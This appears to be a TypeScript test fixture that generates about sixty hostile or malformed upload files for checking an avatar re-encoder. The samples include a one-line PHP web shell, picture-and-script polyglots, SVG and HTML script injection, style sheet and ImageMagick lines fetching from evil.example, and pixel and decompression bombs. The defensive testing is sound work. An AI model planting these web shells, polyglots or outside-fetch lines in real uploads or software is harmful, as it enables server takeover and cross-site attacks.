// Files that are two formats at once, no picture at all, or too large in some respect.
import sharp, { type Sharp } from 'sharp';
import { deflateSync } from 'node:zlib';

const MARK = 'planted-script-7731';
const SCRIPT = `<script>alert("${MARK}")</script>`;
const MEGABYTE = 1024 * 1024;

/** Whether these bytes are a re-encoded WebP of an avatar's size, without planted words. */
export async function isReencoded(bytes: Buffer): Promise<boolean> {
  const { format, width, exif, xmp, icc } = await sharp(bytes).metadata();
  const isBare = [exif, xmp, icc].every((each) => each === undefined);
  return format === 'webp' && width <= 256 && isBare && !bytes.includes(MARK);
}

type File = readonly [name: string, bytes: Buffer];

/** The sixty files, by their descriptions. */
export async function makePictureCorpus(): Promise<readonly File[]> {
  const drawn = sharp({ create: { width: 64, height: 48, channels: 3, background: '#8040c0' } });
  const png = await drawn.clone().png().toBuffer();
  const jpeg = await drawn.clone().jpeg().toBuffer();
  return [
    ...texts(),
    ...(await otherFormats(drawn)),
    ...carriers('a PNG', png),
    ...carriers('a JPEG', jpeg),
    ...cut('a PNG', png),
    ...cut('a JPEG', jpeg),
    ...chunks(png),
    ...bombs(png),
    ['a JPEG with a comment', comment(jpeg)],
    ['words in the data of a place', await withExif(drawn)],
    ['a PNG of more than five megabytes', Buffer.concat([png, Buffer.alloc(5 * MEGABYTE)])],
    ['a PNG of nearly five megabytes', Buffer.concat([png, Buffer.alloc(4 * MEGABYTE)])],
  ];
}

/** Files that are not pictures. */
function texts(): File[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`;
  const all: Readonly<Record<string, string | Buffer>> = {
    nothing: '',
    'a byte': 'x',
    'a drawing': svg,
    'a drawing after its declaration': `<?xml version="1.0"?>${svg}`,
    'a page': `<!doctype html>${SCRIPT}`,
    'a page like a GIF': `GIF89a/*${SCRIPT}*/=1;`,
    'a program in PHP': `<?php system($_GET["c"]); // ${MARK} ?>`,
    'an archive of PHP': `<?php __HALT_COMPILER(); ?>${MARK}`,
    'a program like a PNG': `\u0089PNG\r\n\u001a\n<?php ${MARK}`,
    'a document': `%PDF-1.7 ${MARK}`,
    'an archive': `PK\u0003\u0004${MARK}`,
    'a program': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
    'another program': Buffer.from([0x4d, 0x5a, 0x90, 0]),
    'a shell script': `#!/bin/sh\necho ${MARK}`,
    'a style sheet': `@import url("//evil.example/${MARK}");`,
    PostScript: `%!PS\n(${MARK}) show`,
    'an image for ImageMagick': `push graphic-context\nfill 'url(https://evil.example/${MARK})'`,
    'a playlist': `#EXTM3U\nhttp://127.0.0.1/${MARK}`,
    'a bitmap': Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]),
    'an icon': Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(60)]),
  };
  return Object.entries(all).map(([name, bytes]) => [name, Buffer.from(bytes)]);
}

async function otherFormats(drawn: Sharp): Promise<File[]> {
  return [
    ['a GIF', await drawn.clone().gif().toBuffer()],
    ['a WebP', await drawn.clone().webp().toBuffer()],
    ['a TIFF', await drawn.clone().tiff().toBuffer()],
    ['an AVIF', await drawn.clone().avif({ effort: 0 }).toBuffer()],
  ];
}

/** A valid picture with other content appended or prepended. */
function carriers(name: string, picture: Buffer): File[] {
  const hung = {
    'a page': SCRIPT,
    'an archive': `PK\u0003\u0004${MARK}`,
    'a program in PHP': `<?php ${MARK} ?>`,
    'a document': `%PDF-1.7 ${MARK}`,
  };
  return Object.entries(hung).flatMap(([what, text]): File[] => [
    [`${name} with ${what} behind it`, Buffer.concat([picture, Buffer.from(text)])],
    [`${name} with ${what} before it`, Buffer.concat([Buffer.from(text), picture])],
  ]);
}

/** Truncated pictures, and one with a wrong byte. */
function cut(name: string, picture: Buffer): File[] {
  const ends = [4, 8, 20, Math.floor(picture.length / 2), picture.length - 8];
  const wrong = Buffer.from(picture);
  wrong[Math.floor(wrong.length / 2)] = (wrong[Math.floor(wrong.length / 2)] ?? 0) ^ 0xff;
  return [
    ...ends.map((end): File => [`${name} of ${end} bytes`, picture.subarray(0, end)]),
    [`${name} with a wrong byte`, wrong],
  ];
}

/** PNG chunks that contain text. */
function chunks(png: Buffer): File[] {
  const head = png.subarray(0, 33);
  const rest = png.subarray(33);
  const made: Readonly<Record<string, Buffer>> = {
    tEXt: Buffer.from(`Comment\0${SCRIPT}`),
    zTXt: Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(4 * MEGABYTE, 65))]),
    iTXt: Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SCRIPT}`),
    eXIf: Buffer.from(`MM\0*\0\0\0\u0008${MARK}`),
    prVt: Buffer.from(SCRIPT),
  };
  return Object.entries(made).map(([type, data]) => [
    `a PNG with a part ${type}`,
    Buffer.concat([head, chunk(type, data), rest]),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(named));
  return Buffer.concat([length, named, sum]);
}

function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
  }
  return (value ^ 0xffffffff) >>> 0;
}

/** A header that claims more pixels than there are. */
function bombs(png: Buffer): File[] {
  const sides = [
    [30_000, 30_000],
    [2_147_483_647, 1],
    [0, 0],
  ] as const;
  return sides.map(([width, height]) => {
    const head = Buffer.from(png.subarray(16, 29));
    head.writeUInt32BE(width, 0);
    head.writeUInt32BE(height, 4);
    const bytes = Buffer.concat([png.subarray(0, 8), chunk('IHDR', head), png.subarray(33)]);
    return [`a PNG that claims ${width} by ${height}`, bytes];
  });
}

function comment(jpeg: Buffer): Buffer {
  const text = Buffer.from(SCRIPT);
  const head = Buffer.from([0xff, 0xfe, 0, text.length + 2]);
  return Buffer.concat([jpeg.subarray(0, 2), head, text, jpeg.subarray(2)]);
}

function withExif(drawn: Sharp): Promise<Buffer> {
  return drawn
    .clone()
    .withExif({ IFD0: { Copyright: MARK, ImageDescription: SCRIPT } })
    .jpeg()
    .toBuffer();
}
